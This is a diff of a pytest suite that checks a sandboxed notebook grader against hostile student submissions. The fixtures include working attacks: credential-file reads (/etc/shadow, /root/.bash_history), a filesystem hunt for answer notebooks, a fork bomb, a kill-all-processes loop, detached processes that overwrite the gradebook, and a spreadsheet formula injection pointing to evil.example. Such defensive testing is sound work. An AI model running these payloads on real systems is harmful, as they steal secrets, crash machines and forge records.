@@ -1,30 +1,44 @@
-"""The batch grader: one trustworthy row per submission, whatever the submission does."""
+"""The batch grader against a hostile class: one trustworthy row per submission, whatever it does.
+
+One folder holds an honest solution, a blank copy and every attack below; it is
+graded once by the command line, exactly as an instructor would. An attack that
+succeeds *earns points* (its functions are right only if the attack worked), so
+"every attacker scores 0" is the check that no attack worked.
+"""
 
 import copy
 import csv
 import json
+import os
 import pathlib
-import shutil
+import re
+import socket
+import stat
 import subprocess
 import sys
+import time
+import uuid
 
 import numpy as np
 import pytest
 
-from book import _grade_child as wire
-from book.grade import choose_sandbox
+from book.grading import child as wire
+from book.grading import sandbox as sandboxes
 
 ROOT = pathlib.Path(__file__).resolve().parents[1]
 EXERCISE = ROOT / "exercises" / "ex01"
-MASTER = json.loads((EXERCISE / "master" / "ex01.ipynb").read_text())
+MASTER_PATH = EXERCISE / "master" / "ex01.ipynb"
+MASTER = json.loads(MASTER_PATH.read_text())
 STUDENT = json.loads((EXERCISE / "ex01.ipynb").read_text())
 POSSIBLE = 12
-SANDBOX = choose_sandbox()
+TIMEOUT = 10
+HAVE_BWRAP = sandboxes.shutil.which("bwrap") is not None
+pytestmark = pytest.mark.skipif(not HAVE_BWRAP, reason="needs bubblewrap (apt-get install bubblewrap)")
 
 
-def code_cell(source, outputs=()):
-    return {"cell_type": "code", "metadata": {}, "execution_count": None,
-            "outputs": list(outputs), "source": source}
+def code_cell(source):
+    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
+            "source": source}
 
 
 def with_cells(base, *sources, at=None):
@@ -36,6 +50,37 @@ def with_cells(base, *sources, at=None):
     else:
         nb["cells"][at:at] = cells
     return nb
+
+
+def _solutions():
+    out = {}
+    for cell in MASTER["cells"]:
+        source = "".join(cell["source"])
+        match = re.match(r"def (\w+)\(", source)
+        if cell["cell_type"] == "code" and match:
+            out[match.group(1)] = source
+    return out
+
+
+SOLUTIONS = _solutions()
+
+
+def solved(edit=None):
+    """The student notebook with every answer filled in, as a student hands it in;
+    ``edit(name, source)`` may change the source of an answer cell."""
+    nb = copy.deepcopy(STUDENT)
+    for cell in nb["cells"]:
+        match = re.match(r"def (\w+)\(", "".join(cell["source"]))
+        if cell["cell_type"] == "code" and match:
+            source = SOLUTIONS[match.group(1)]
+            cell["source"] = edit(match.group(1), source) if edit else source
+    return nb
+
+
+def if_it_worked(condition):
+    """Code that defines every answer correctly only when ``condition`` (an expression) is true."""
+    body = "\n".join(SOLUTIONS.values())
+    return f"if {condition}:\n" + "\n".join("    " + line for line in body.splitlines())
 
 
 HALF_RIGHT = '''
@@ -78,113 +123,396 @@ class Liar(np.ndarray):
 def weight_shapes(sizes): return Anything()
 def layer_forward(w, A, b): return np.zeros((w.shape[0], A.shape[1])).view(Liar)
 def hadamard(s, t): return Anything()
-def z_sender_first(W, A, b): return Anything()
+def z_sender_first(W_sender, A, b): return Anything()
 def feedforward(weights, biases, X): return Anything()
 '''
+
+# --- reading what it must not: the solutions, a classmate's work, secrets
+FIND_SOLUTIONS = '''
+import os, json
+found = []
+def harvest(path):
+    try:
+        nb = json.load(open(path))
+        for cell in nb["cells"]:
+            src = "".join(cell["source"])
+            if cell["cell_type"] == "code" and src.startswith("def "):
+                exec(src, globals())
+        found.append(path)
+    except Exception:
+        pass
+for path in @PATHS@:
+    harvest(path)
+for top in ["/", "/tmp", "/home", "/root", "/work", "/scratch"]:
+    for folder, dirs, files in os.walk(top):
+        if folder.startswith(("/proc", "/sys", "/usr", "/packages")):
+            dirs[:] = []
+            continue
+        for f in files:
+            if f.endswith(".ipynb"):
+                harvest(os.path.join(folder, f))
+try:
+    import book, pathlib
+    for p in pathlib.Path(book.__file__).parents[1].rglob("*.ipynb"):
+        harvest(str(p))
+except Exception:
+    pass
+'''
+
+USES_BOOK = '''
+def feedforward(weights, biases, X):
+    from book import Network
+    net = Network([len(weights[0][0])] + [len(b) for b in biases])
+    net.weights, net.biases = weights, biases
+    return net.feedforward(X)
+'''
+
+READS_SECRET = '''
+texts = []
+for path in @PATHS@:
+    try:
+        texts.append(open(path).read(200))
+    except Exception as err:
+        pass
+raise Exception(" | ".join(texts) or "nothing readable")
+'''
+
+# --- writing where it must not
+ESCAPES = '''
+import os, socket, time
+worked = []
+def attempt(what, action):
+    try:
+        action()
+        worked.append(what)
+    except Exception:
+        pass
+def write(path, data=b"forged: all rows verified OK\\n"):
+    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_CREAT, 0o666)
+    os.write(fd, data)
+    os.close(fd)
+for dev in ["/dev/kmsg", "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", "/dev/sda",
+            "/dev/mem", "/dev/shm/x"]:
+    attempt(dev, lambda: write(dev))
+attempt("fifo", lambda: write(@FIFO@))
+def unix():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(@SOCKET@)
+    s.sendall(b"hello")
+attempt("socket", unix)
+attempt("space", lambda: write(@SPACE@))
+attempt("network", lambda: socket.create_connection(("127.0.0.1", 22), timeout=1))
+attempt("root", lambda: write("/escape"))
+attempt("proc", lambda: write("/proc/sys/kernel/hostname", b"pwned"))
+'''
+
+IPC_KEY = 0x5EED
+SYSV_WRITER = f'''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+qid = libc.msgget({IPC_KEY}, 0o1666)
+class Msg(ctypes.Structure):
+    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]
+libc.msgsnd(qid, ctypes.byref(Msg(1, b"answers follow")), 64, 0)
+sid = libc.shmget({IPC_KEY}, 4096, 0o1666)
+'''
+SYSV_READER = if_it_worked(f"__import__('ctypes').CDLL(None).msgget({IPC_KEY}, 0o666) >= 0 or "
+                           f"__import__('ctypes').CDLL(None).shmget({IPC_KEY}, 0, 0o666) >= 0")
+
+# --- outliving its row
+LINGER = '''
+import os, threading, time, ctypes
+libc = ctypes.CDLL(None)
+def linger():
+    while True:
+        for path in @TARGETS@:
+            try:
+                with open(path, "w") as f:
+                    f.write("file,total\\nattacker.ipynb,12\\n")
+            except OSError:
+                pass
+        time.sleep(0.2)
+if os.fork() == 0:
+    os.setsid()
+    libc.prctl(1, 0)          # PR_SET_PDEATHSIG: none
+    if os.fork() == 0:
+        libc.prctl(1, 0)
+        threading.Thread(target=linger).start()
+        linger()
+    os._exit(0)
+threading.Thread(target=linger, daemon=False).start()
+'''
+
+FORK_BOMB = '''
+import os
+while True:
+    if os.fork() == 0:
+        while True:
+            pass
+'''
+
+# --- the gradebook
+INJECT = '''
+raise Exception('=HYPERLINK("http://evil.example/?"&A1,"click")\\nevil.ipynb,2,3,2,2,3,12,12,\\n'
+                + "A" * 5_000_000)
+'''
+
+# --- Jupyter syntax an honest student uses
+def ipython_syntax(name, source):
+    if name == "weight_shapes":
+        return ("x = (1\n     != 2)   # a continuation line that starts with !=\n"
+                "np.exp?\n"
+                "# a line separator \u2028 pasted into a comment, and one in a string:\n"
+                "s = 'a\u2029b'\n%time y = 1\n" + source)
+    if name == "layer_forward":
+        return "%%time\n" + source
+    return source
+
+
+def loop_after(name, source):
+    return source + "\nwhile True:\n    pass\n" if name == "feedforward" else source
+
+
+def hangs_when_called(name, source):
+    if name == "feedforward":
+        return source.replace('"""\n', '"""\n    while X.shape[1] == 4:\n        pass\n', 1)
+    return source
 
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
-    """Grade one folder holding every case below with the CLI, once; return rows by file."""
+    """Grade one folder holding every case with the command line, once."""
     base = tmp_path_factory.mktemp("grading")
-    exercise = base / "exercise"                 # a copy, which one submission tries to destroy
-    shutil.copytree(EXERCISE, exercise)
     folder = base / "submissions"
     folder.mkdir()
     gradebook = base / "out" / "grades.csv"
     gradebook.parent.mkdir()
-    gradebook.write_text("an old gradebook that a submission will try to overwrite\n")
+    secret_dir = base / "private"
+    secret_dir.mkdir(mode=0o700)
+    token = f"SECRET-{uuid.uuid4()}"
+    (secret_dir / "secret.txt").write_text(token)
+    (secret_dir / "ex01-solutions.ipynb").write_text(json.dumps(MASTER))
+    for path in secret_dir.iterdir():
+        path.chmod(0o600)
+    fifo = base / "fifo"
+    os.mkfifo(fifo)
+    fifo_fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind(str(base / "socket"))
+    listener.listen(5)
+    listener.setblocking(False)
+    spaced = base / "dir with space"
+    spaced.mkdir()
+    spaced.chmod(0o777)
 
     def put(name, content):
         data = content if isinstance(content, bytes) else json.dumps(content).encode()
-        (folder / name).write_bytes(data)
+        path = folder / name if isinstance(name, str) else os.path.join(bytes(folder), name)
+        with open(path, "wb") as f:
+            f.write(data)
 
+    def sub(text, **values):
+        for key, value in values.items():
+            text = text.replace(f"@{key}@", repr(value))
+        return text
+
+    honest = solved()
+    put("honest.ipynb", honest)
     put("master.ipynb", MASTER)
     put("blank.ipynb", STUDENT)
     put("half_right.ipynb", with_cells(STUDENT, HALF_RIGHT))
-    renamed = with_cells(MASTER, "print('my own scratch work')", "x = np.arange(3)\nx", at=3)
+    renamed = with_cells(honest, "print('my own scratch work')", "x = np.arange(3)\nx", at=3)
     renamed["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": "My notes"})
-    renamed["cells"][2]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "hi\n"}]
-    renamed["cells"][2]["execution_count"] = 7
     put("Copy of ex01 (final) v2.ipynb", renamed)
+    put("ipython_syntax.ipynb", solved(ipython_syntax))
+    put("loop_in_q5_cell.ipynb", solved(loop_after))
+    put("hangs_in_a_test.ipynb", solved(hangs_when_called))
+    put("needs_a_magic.ipynb", with_cells(STUDENT, "%run helpers.py\nhelper()"))
+    big = solved()
+    big["cells"][2]["outputs"] = [{"output_type": "stream", "name": "stdout",
+                                   "text": "x" * (30 * 2**20)}]
+    put("big_outputs_30MB.ipynb", big)
+    # broken files
     put("not_json.ipynb", b"this is {not json")
     put("zero_bytes.ipynb", b"")
     put("not_a_notebook.ipynb", {"hello": "world"})
     put("empty.ipynb", {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []})
     put("nbformat3.ipynb", {"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                             "worksheets": [{"cells": [{"cell_type": "code", "input": "1"}]}]})
+    with open(folder / "sparse_40GB.ipynb", "wb") as f:
+        f.truncate(40 * 2**30)
+    os.symlink(secret_dir / "secret.txt", folder / "symlink_to_secret.ipynb")
+    os.mkfifo(folder / "fifo.ipynb")
+    # cells that fail
     put("raises.ipynb", with_cells(STUDENT, "1 / 0"))
-    put("raises_but_correct.ipynb", with_cells(MASTER, "raise RuntimeError('oops')", at=3))
-    put("loops.ipynb", with_cells(STUDENT, "while True:\n    pass"))
+    put("raises_but_correct.ipynb", with_cells(honest, "raise RuntimeError('oops')", at=3))
     put("memory.ipynb", with_cells(STUDENT, "hog = np.ones((2**16, 2**16))  # 32 GB"))
-    put("os_exit.ipynb", with_cells(MASTER, "import os\nos._exit(0)"))
+    put("os_exit.ipynb", with_cells(STUDENT, "import os\nos._exit(0)"))
     put("sys_exit.ipynb", with_cells(STUDENT, "import sys\nsys.exit(3)"))
+    # hostile
     put("tamper.ipynb", with_cells(STUDENT, TAMPER))
     put("trick_objects.ipynb", with_cells(STUDENT, TRICK_OBJECTS))
     put("forges_protocol.ipynb", with_cells(STUDENT, (
         "import os\nfor fd in range(3, 20):\n    try:\n"
         "        os.write(fd, b'\\xff' * 64)\n    except OSError:\n        pass")))
-    destroy = f"""
-import os, shutil, pathlib
-for path in pathlib.Path({str(folder)!r}).glob('*.ipynb'):
-    try:
-        path.write_text('{{"nbformat": 4, "cells": []}}')
-    except OSError:
-        pass
-for target in [{str(exercise)!r}, {str(gradebook.parent)!r}]:
-    shutil.rmtree(target, ignore_errors=True)
-pathlib.Path({str(gradebook)!r}).write_text('file,total\\nme,1000\\n')
-"""
-    put("destroys_files.ipynb", with_cells(STUDENT, destroy))
-    if SANDBOX:
-        put("kills_grader.ipynb", with_cells(STUDENT, (
-            "import os, signal\nfor pid in range(1, 50000):\n    try:\n"
-            "        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
-            "    except OSError:\n        pass")))
+    put("finds_solutions.ipynb", with_cells(STUDENT, sub(
+        FIND_SOLUTIONS, PATHS=[str(MASTER_PATH), str(folder / "honest.ipynb"),
+                               str(secret_dir / "ex01-solutions.ipynb")])))
+    put("uses_book.ipynb", with_cells(STUDENT, USES_BOOK))
+    put("reads_secrets.ipynb", with_cells(STUDENT, sub(
+        READS_SECRET, PATHS=[str(secret_dir / "secret.txt"), "/etc/shadow", "/etc/passwd",
+                             "/root/.bash_history", "/proc/1/environ"])))
+    put("escapes.ipynb", with_cells(STUDENT, sub(
+        ESCAPES, FIFO=str(fifo), SOCKET=str(base / "socket"),
+        SPACE=str(spaced / "escaped.txt")), if_it_worked("worked")))
+    put("sysv_writer.ipynb", with_cells(STUDENT, SYSV_WRITER))
+    put("sysv_reader.ipynb", with_cells(STUDENT, "import time\ntime.sleep(1)", SYSV_READER))
+    put("lingers.ipynb", with_cells(STUDENT, sub(
+        LINGER, TARGETS=[str(gradebook), str(gradebook.with_suffix(".log")),
+                         str(folder / "honest.ipynb")])))
+    put("fork_bomb.ipynb", with_cells(STUDENT, FORK_BOMB))
+    put("kills_everything.ipynb", with_cells(STUDENT, (
+        "import os, signal\nfor pid in range(1, 5000):\n    try:\n"
+        "        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
+        "    except OSError:\n        pass")))
+    put("injects_csv.ipynb", with_cells(STUDENT, INJECT))
+    put("huge_result.ipynb", with_cells(STUDENT, (
+        "def weight_shapes(sizes):\n    return np.ones(50_000_000)\n"
+        "def layer_forward(w, A, b):\n    return [0.5] * 3_000_000\n")))
+    put("=HYPERLINK(1).ipynb", STUDENT)
+    put("+1.ipynb", STUDENT)
+    put("-1.ipynb", STUDENT)
+    put("@sum.ipynb", STUDENT)
+    put("hon\u200best.ipynb", STUDENT)             # looks like honest.ipynb
+    put("new\nline.ipynb", STUDENT)
+    put(b"windows-\xff\xfe.ipynb", STUDENT)         # not UTF-8
+    put("UPPER.IPYNB", honest)
 
+    script = ("import resource, sys\nfrom book.grading.cli import main\n"
+              "code = main(sys.argv[1:])\n"
+              "print('PEAK_RSS_KB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,"
+              " file=sys.stderr)\nsys.exit(code)\n")
     result = subprocess.run(
-        [sys.executable, "-m", "book.grade", str(exercise), str(folder), "-o", str(gradebook),
-         "--timeout", "15", "--memory", "512"],
-        capture_output=True, text=True, timeout=600)
-    with open(gradebook, newline="") as f:
+        [sys.executable, "-c", script, "ex01", str(folder), "-o", str(gradebook),
+         "--timeout", str(TIMEOUT), "--memory", "512", "--jobs", "2"],
+        capture_output=True, text=True, timeout=900, cwd=base)
+    finished = time.monotonic()
+    leftovers = processes_of_the_sandbox()
+    written = gradebook.read_bytes()
+    time.sleep(2)   # anything still alive would now rewrite the gradebook
+    received = b""
+    try:
+        received += os.read(fifo_fd, 4096)
+    except BlockingIOError:
+        pass
+    try:
+        connection, _ = listener.accept()
+        received += connection.recv(4096) or b"(a connection)"
+    except BlockingIOError:
+        pass
+    with open(gradebook, newline="", encoding="utf-8") as f:
         rows = {row["file"]: row for row in csv.DictReader(f)}
-    return result, rows, folder
+    return dict(result=result, rows=rows, folder=folder, gradebook=gradebook, token=token,
+                written=written, leftovers=leftovers, received=received, spaced=spaced,
+                finished=finished, base=base)
+
+
+def processes_of_the_sandbox():
+    """Live processes started by the grader for a submission: by the marker in their command
+    line, or (when the grader ran as root) by the sandbox's uid."""
+    found = []
+    for entry in pathlib.Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            cmdline = (entry / "cmdline").read_bytes()
+            status = (entry / "status").read_text()
+        except OSError:
+            continue
+        uid = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))
+        state = re.search(r"^State:\s+(\S)", status, re.M).group(1)
+        if state != "Z" and (sandboxes.MARKER.encode() in cmdline
+                             or (os.geteuid() == 0 and uid == sandboxes.SANDBOX_UID)):
+            found.append((entry.name, cmdline[:80]))
+    return found
 
 
 def total(rows, name):
     return float(rows[name]["total"])
 
 
+ATTACKS = ["tamper.ipynb", "trick_objects.ipynb", "forges_protocol.ipynb",
+           "finds_solutions.ipynb", "uses_book.ipynb", "reads_secrets.ipynb", "escapes.ipynb",
+           "sysv_writer.ipynb", "sysv_reader.ipynb", "lingers.ipynb", "fork_bomb.ipynb",
+           "kills_everything.ipynb", "injects_csv.ipynb", "huge_result.ipynb"]
+
+
 def test_exit_status_and_one_row_per_submission(graded):
-    result, rows, folder = graded
+    result, rows, folder = graded["result"], graded["rows"], graded["folder"]
     assert result.returncode == 0, result.stderr
     print(result.stderr)
-    expected = {"master.ipynb", "blank.ipynb", "half_right.ipynb", "Copy of ex01 (final) v2.ipynb",
-                "not_json.ipynb", "zero_bytes.ipynb", "not_a_notebook.ipynb", "empty.ipynb",
-                "nbformat3.ipynb", "raises.ipynb", "raises_but_correct.ipynb", "loops.ipynb",
-                "memory.ipynb", "os_exit.ipynb", "sys_exit.ipynb", "tamper.ipynb",
-                "trick_objects.ipynb", "forges_protocol.ipynb", "destroys_files.ipynb"}
-    if SANDBOX:
-        expected.add("kills_grader.ipynb")
-    assert set(rows) == expected
+    assert len(rows) == len([n for n in os.listdir(folder) if n.lower().endswith(".ipynb")])
     assert all(row["possible"] == str(POSSIBLE) for row in rows.values())
     for name, row in sorted(rows.items()):
         print(f"{name:32} {row['total']:>4}  {row['error']}")
 
 
-def test_master_full_blank_zero_half_right_between(graded):
-    _, rows, _ = graded
-    assert total(rows, "master.ipynb") == POSSIBLE
-    assert [rows["master.ipynb"][q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["2", "3", "2", "2", "3"]
+def test_honest_full_marks_blank_zero_half_right_between(graded):
+    rows = graded["rows"]
+    for name in ["honest.ipynb", "master.ipynb", "Copy of ex01 (final) v2.ipynb", "UPPER.IPYNB"]:
+        assert total(rows, name) == POSSIBLE, (name, rows[name])
+    assert rows["honest.ipynb"]["error"] == ""
+    assert [rows["honest.ipynb"][q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["2", "3", "2", "2", "3"]
     assert total(rows, "blank.ipynb") == 0 and rows["blank.ipynb"]["error"] == ""
     row = rows["half_right.ipynb"]
     assert row["q1"] == "2" and row["q2"] == "0" and float(row["q3"]) == pytest.approx(4 / 3, abs=0.01)
-    assert 0 < total(rows, "half_right.ipynb") < POSSIBLE
 
 
-def test_renamed_with_extra_cells_and_outputs_gets_full_marks(graded):
-    _, rows, _ = graded
-    assert total(rows, "Copy of ex01 (final) v2.ipynb") == POSSIBLE
+@pytest.mark.parametrize("name", ATTACKS)
+def test_every_attack_earns_nothing(graded, name):
+    assert total(graded["rows"], name) == 0, graded["rows"][name]
+
+
+def test_no_secret_and_no_solution_leaves_the_sandbox(graded):
+    text = graded["gradebook"].read_text() + graded["gradebook"].with_suffix(".log").read_text()
+    assert graded["token"] not in text
+    assert "root:" not in text                       # no line of /etc/passwd or /etc/shadow
+    error = graded["rows"]["reads_secrets.ipynb"]["error"]
+    assert "raised Exception: nothing readable" in error
+
+
+def test_nothing_written_outside_the_sandbox(graded):
+    assert graded["received"] == b""                  # the FIFO and the Unix socket heard nothing
+    assert list(graded["spaced"].iterdir()) == []
+    assert not pathlib.Path("/escape").exists()
+    assert json.loads((graded["folder"] / "honest.ipynb").read_text()) == solved()
+    ipc = pathlib.Path("/proc/sysvipc/msg").read_text() + pathlib.Path("/proc/sysvipc/shm").read_text()
+    assert str(IPC_KEY) not in ipc.split()
+
+
+def test_nothing_outlives_its_row(graded):
+    assert graded["leftovers"] == []
+    assert processes_of_the_sandbox() == []
+    assert graded["gradebook"].read_bytes() == graded["written"]  # unchanged two seconds later
+
+
+def test_time_limits_cost_only_what_they_break(graded):
+    rows = graded["rows"]
+    row = rows["loop_in_q5_cell.ipynb"]
+    assert [row[q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["2", "3", "2", "2", "0"]
+    assert f"code cell 11 (starting `def feedforward(weights, biases…`): time limit of " \
+           f"{TIMEOUT} s exceeded; graded without it" in row["error"]
+    row = rows["hangs_in_a_test.ipynb"]
+    assert [row[q] for q in ("q1", "q2", "q3", "q4")] == ["2", "3", "2", "2"]
+    assert f"q5: time limit of {TIMEOUT} s exceeded while testing feedforward" in row["error"]
+
+
+def test_jupyter_syntax_runs_as_in_jupyter(graded):
+    row = graded["rows"]["ipython_syntax.ipynb"]
+    assert total(graded["rows"], "ipython_syntax.ipynb") == POSSIBLE and row["error"] == "", row
+    error = graded["rows"]["needs_a_magic.ipynb"]["error"]
+    assert "code cell 14 (starting `%run helpers.py`): raised NameError" in error
+    assert "it uses %run, which the grader does not run" in error
 
 
 @pytest.mark.parametrize("name,message", [
@@ -193,66 +521,159 @@ def test_renamed_with_extra_cells_and_outputs_gets_full_marks(graded):
     ("not_a_notebook.ipynb", "not a notebook: expected a JSON object with 'nbformat'"),
     ("empty.ipynb", "the notebook has no code cells"),
     ("nbformat3.ipynb", "unsupported notebook format version 3 (expected 4"),
-    ("raises.ipynb", "raised ZeroDivisionError: division by zero"),
-    ("loops.ipynb", "time limit of 15 s exceeded while running cell"),
+    ("sparse_40GB.ipynb", "not graded: the file is 40960 MB, over the 32 MB limit"),
+    ("symlink_to_secret.ipynb", "not graded: a symbolic link"),
+    ("fifo.ipynb", "not graded: not a regular file"),
+    ("raises.ipynb", "code cell 14 (starting `1 / 0`): raised ZeroDivisionError: division by zero"),
     ("memory.ipynb", "raised MemoryError"),
-    ("os_exit.ipynb", "process ended with exit status 0 while running cell"),
+    ("os_exit.ipynb", "(starting `import os`): the submission's process ended (exit status 0); "
+                      "graded without it"),
     ("sys_exit.ipynb", "called sys.exit(3)"),
     ("forges_protocol.ipynb", "the submission's process sent a message of"),
+    ("fork_bomb.ipynb", "raised BlockingIOError"),
 ])
-def test_broken_and_hostile_submissions_score_zero_with_a_message(graded, name, message):
-    _, rows, _ = graded
+def test_broken_submissions_score_zero_with_a_message(graded, name, message):
+    rows = graded["rows"]
     assert total(rows, name) == 0
     assert message in rows[name]["error"]
 
 
 def test_a_cell_that_raises_costs_only_what_it_breaks(graded):
-    _, rows, _ = graded
-    row = rows["raises_but_correct.ipynb"]
-    assert total(rows, "raises_but_correct.ipynb") == POSSIBLE
+    row = graded["rows"]["raises_but_correct.ipynb"]
+    assert float(row["total"]) == POSSIBLE
     assert "raised RuntimeError: oops" in row["error"]
 
 
-@pytest.mark.parametrize("name", ["tamper.ipynb", "trick_objects.ipynb"])
-def test_tampering_earns_nothing(graded, name):
-    _, rows, _ = graded
-    assert total(rows, name) == 0
+def test_big_outputs_are_graded(graded):
+    assert total(graded["rows"], "big_outputs_30MB.ipynb") == POSSIBLE
 
 
-def test_destroying_files_changes_no_other_row(graded):
-    result, rows, folder = graded
-    assert total(rows, "destroys_files.ipynb") == 0
-    assert total(rows, "master.ipynb") == POSSIBLE       # read before anything ran
-    assert "me,1000" not in json.dumps(rows)              # the gradebook is the grader's
-    if SANDBOX:  # and with the sandbox the files are not even touched
-        assert "Read-only file system" in rows["destroys_files.ipynb"]["error"]
-        assert json.loads((folder / "master.ipynb").read_text()) == MASTER
+def test_the_gradebook_cannot_be_forged(graded):
+    text = graded["gradebook"].read_text(encoding="utf-8")
+    with open(graded["gradebook"], newline="", encoding="utf-8") as f:
+        table = list(csv.reader(f))             # the csv module at its default field limit
+    header, body = table[0], table[1:]
+    assert header == ["file", "q1", "q2", "q3", "q4", "q5", "total", "possible", "error"]
+    assert len(body) == len(graded["rows"]) == len(text.splitlines()) - 1   # one line a row
+    for fields in body:
+        assert len(fields) == len(header)
+        for field in fields:
+            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
+            assert "\n" not in field and "\r" not in field
+        assert len(fields[-1]) <= 300
+    names = [fields[0] for fields in body]
+    assert len(set(names)) == len(names)
+    for shown in ["'=HYPERLINK(1).ipynb", "'+1.ipynb", "'-1.ipynb", "'@sum.ipynb",
+                  "hon\\u200best.ipynb", "new\\nline.ipynb", "windows-\\xff\\xfe.ipynb"]:
+        assert shown in names, names
+    assert "evil.ipynb" not in names
+    error = graded["rows"]["injects_csv.ipynb"]["error"]
+    assert error.startswith("code cell 14 (starting `raise Exception('=HYPERLINK(") and len(error) <= 300
 
 
-@pytest.mark.skipif(not SANDBOX, reason="needs the namespace sandbox")
-def test_a_submission_cannot_kill_the_grader(graded):
-    result, rows, _ = graded
+def test_the_grader_stays_small(graded):
+    peak_kb = int(re.search(r"PEAK_RSS_KB (\d+)", graded["result"].stderr).group(1))
+    print(f"grader's peak RSS: {peak_kb / 1024:.0f} MB")
+    assert peak_kb < 1024 * 1024
+    error = graded["rows"]["huge_result.ipynb"]["error"]
+    assert total(graded["rows"], "huge_result.ipynb") == 0
+
+
+def test_the_log_records_the_isolation(graded):
+    log = graded["gradebook"].with_suffix(".log").read_text()
+    assert "isolation: bubblewrap" in log and "uid" in log
+    assert "settings: timeout 10 s per run, memory 512 MB, 2 job(s)" in log
+
+
+# ------------------------------------------------------------ a hostile neighbour
+HONEST_BUT_SLOW = "total = 0\nfor i in range(40_000_000):\n    total += i"
+BUSY_NEIGHBOUR = '''
+import os
+for i in range(12):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            pass
+while True:
+    pass
+'''
+
+
+@pytest.mark.parametrize("cgroups", ["1", "0"])
+def test_an_honest_slow_submission_survives_a_busy_neighbour(tmp_path, cgroups):
+    """With cgroups each submission has an equal CPU share; without them, a submission that
+    ran out of time beside others is graded again alone."""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    (folder / "a_busy.ipynb").write_text(json.dumps(with_cells(STUDENT, BUSY_NEIGHBOUR)))
+    (folder / "b_honest_slow.ipynb").write_text(json.dumps(with_cells(solved(), HONEST_BUT_SLOW)))
+    out = tmp_path / "grades.csv"
+    result = subprocess.run(
+        [sys.executable, "-m", "book.grading", "ex01", str(folder), "-o", str(out),
+         "--timeout", "12", "--jobs", "2"], capture_output=True, text=True, timeout=600,
+        env={**os.environ, "BOOK_GRADING_CGROUPS": cgroups})
+    assert result.returncode == 0, result.stderr
+    with open(out, newline="") as f:
+        rows = {row["file"]: row for row in csv.DictReader(f)}
+    print(rows, out.with_suffix(".log").read_text())
+    assert float(rows["b_honest_slow.ipynb"]["total"]) == POSSIBLE
+    assert float(rows["a_busy.ipynb"]["total"]) == 0
+    assert processes_of_the_sandbox() == []
+
+
+# ------------------------------------------------------------------ the command
+def run_cli(*args, env=None):
+    return subprocess.run([sys.executable, "-m", "book.grading", *args], capture_output=True,
+                          text=True, timeout=300, env=env)
+
+
+@pytest.mark.parametrize("args,message", [
+    (["ex99", "."], "exercise 'ex99' not found"),
+    (["ex01", "missing-folder"], "does not exist"),
+    (["ex01", ".", "--timeout", "inf"], "--timeout must be a number of seconds"),
+    (["ex01", ".", "--timeout", "0"], "--timeout must be a number of seconds"),
+    (["ex01", ".", "--timeout", "-5"], "--timeout must be a number of seconds"),
+    (["ex01", ".", "--timeout", "nan"], "--timeout must be a number of seconds"),
+    (["ex01", ".", "--memory", "16"], "--memory must be a whole number of MB, at least 128"),
+    (["ex01", ".", "--jobs", "0"], "--jobs must be a whole number"),
+])
+def test_bad_command_lines_exit_2_with_a_message(tmp_path, args, message):
+    args = [str(tmp_path / a) if a in (".", "missing-folder") else a for a in args]
+    result = run_cli(*args, "-o", str(tmp_path / "g.csv"))
+    assert result.returncode == 2 and message in result.stderr, result.stderr
+    assert not (tmp_path / "g.csv").exists()
+
+
+def test_without_bubblewrap_it_refuses_and_says_what_to_install(tmp_path):
+    empty = tmp_path / "bin"
+    empty.mkdir()
+    result = run_cli("ex01", str(tmp_path), "-o", str(tmp_path / "g.csv"),
+                     env={**os.environ, "PATH": str(empty)})
+    assert result.returncode == 2
+    assert "apt-get install bubblewrap" in result.stderr and "--sandbox none" in result.stderr
+
+
+def test_sandbox_none_warns_and_logs_it(tmp_path):
+    (tmp_path / "honest.ipynb").write_text(json.dumps(solved()))
+    out = tmp_path / "g.csv"
+    result = run_cli("ex01", str(tmp_path), "-o", str(out), "--sandbox", "none")
     assert result.returncode == 0
-    assert total(rows, "kills_grader.ipynb") == 0
-    assert total(rows, "master.ipynb") == POSSIBLE
-
-
-def test_bad_command_lines_exit_2_with_a_message(tmp_path):
-    def run(*args):
-        return subprocess.run([sys.executable, "-m", "book.grade", *args], capture_output=True,
-                              text=True, timeout=120)
-    result = run("ex99", str(tmp_path))
-    assert result.returncode == 2 and "exercise 'ex99' not found" in result.stderr
-    result = run("ex01", str(tmp_path / "missing"))
-    assert result.returncode == 2 and "does not exist" in result.stderr
+    assert "WARNING: --sandbox none" in result.stderr
+    assert "isolation: none" in out.with_suffix(".log").read_text()
+    assert "honest.ipynb,2,3,2,2,3,12,12," in out.read_text()
 
 
 def test_an_empty_folder_gives_a_header_only_gradebook(tmp_path):
     out = tmp_path / "g.csv"
-    result = subprocess.run([sys.executable, "-m", "book.grade", "ex01", str(tmp_path), "-o", str(out)],
-                            capture_output=True, text=True, timeout=120)
-    assert result.returncode == 0
+    result = run_cli("ex01", str(tmp_path), "-o", str(out))
+    assert result.returncode == 0, result.stderr
     assert out.read_text().splitlines() == ["file,q1,q2,q3,q4,q5,total,possible,error"]
+
+
+def test_the_old_command_still_works(tmp_path):
+    result = subprocess.run([sys.executable, "-m", "book.grade", "ex01", str(tmp_path), "-o",
+                             str(tmp_path / "g.csv")], capture_output=True, text=True, timeout=300)
